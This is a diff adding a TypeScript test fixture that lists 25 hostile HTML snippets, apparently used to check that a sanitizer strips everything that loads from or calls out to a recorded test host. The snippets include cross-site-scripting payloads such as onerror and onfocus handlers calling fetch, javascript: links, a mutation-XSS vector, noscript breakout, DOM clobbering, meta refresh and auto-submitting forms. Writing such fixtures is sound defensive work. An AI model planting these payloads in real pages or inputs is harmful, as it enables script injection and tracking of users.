@@ -1,0 +1,30 @@
+import type { Elsewhere } from './recorder';
+
+/** Markup as it comes from mail, word processors and attackers; each holds a word that must stay: its number. */
+export const nastyHtml = ({ http }: Elsewhere): readonly string[] => [
+  `<p>mot1 <img src="${http}/image.png" onerror="fetch('${http}/onerror')"></p>`,
+  `<p>mot2 <svg><image href="${http}/svg.png"/><use href="${http}/use.svg#a"/><script>fetch('${http}/svg-script')</script></svg></p>`,
+  `<style>@import '${http}/import.css'; p { background: url(${http}/style.png) }</style><p>mot3</p>`,
+  `<p style="background: url(${http}/inline.png); cursor: url(${http}/cursor.cur), auto">mot4</p>`,
+  `<meta http-equiv="refresh" content="0;url=${http}/refresh"><p>mot5</p>`,
+  `<base href="${http}/"><p>mot6 <img src="relative.png"></p>`,
+  `<link rel="stylesheet" href="${http}/sheet.css"><link rel="preconnect" href="${http}"><p>mot7</p>`,
+  `<p>mot8</p><iframe src="${http}/frame"></iframe><iframe srcdoc="<img src='${http}/srcdoc.png'>"></iframe>`,
+  `<p>mot9</p><object data="${http}/object"><embed src="${http}/embed"></object>`,
+  `<p>mot10</p><video src="${http}/film.mp4" poster="${http}/poster.png"><track src="${http}/track.vtt"></video><audio src="${http}/sound.mp3">`,
+  `<form action="${http}/form"><p>mot11</p><input name="nom" autofocus onfocus="this.form.submit()"></form>`,
+  `<p><a href="${http}/link" ping="${http}/ping" target="_blank">mot12</a> <a href="javascript:fetch('${http}/js')">lien</a></p>`,
+  `<p>mot13</p><script>fetch('${http}/script')</script><script src="${http}/script.js"></script>`,
+  `<p>mot14</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${http}/mutation.png onerror=fetch('${http}/mutation')&gt;">`,
+  `<template><img src="${http}/template.png"></template><p>mot15</p>`,
+  `<p>mot16</p><noscript><p title="</noscript><img src='${http}/noscript.png'>">`,
+  `<table background="${http}/table.png"><tr><td>mot17</td></tr></table>`,
+  `<p>mot18 <picture><source srcset="${http}/set.png 2x"><img srcset="${http}/set1.png"></picture></p>`,
+  `<!--[if gte mso 9]><xml><v:fill src="${http}/word.png"/></xml><![endif]--><p class="MsoNormal">mot19<o:p></o:p></p>`,
+  `<p>mot20 <span data-origin="machine" data-start='"x"' data-proposals='{"a":1}' data-risk="[]">forgé</span></p>`,
+  `<form><input name="attributes"><input name="nodeName"></form><p id="location" name="body">mot21</p>`,
+  `<p>mot22 <font face="x" style="src: url(${http}/font.woff2)">police</font><marquee onstart="fetch('${http}/marquee')">x</marquee></p>`,
+  `<p>mot23</p><portal src="${http}/portal"></portal><fencedframe src="${http}/fenced"></fencedframe><frameset><frame src="${http}/f"></frameset>`,
+  `<p>mot24</p><body background="${http}/body.png" onload="location='${http}/onload'">`,
+  `<p>mot25 <input type="image" src="${http}/button.png"><button formaction="${http}/formaction">x</button></p>`,
+];
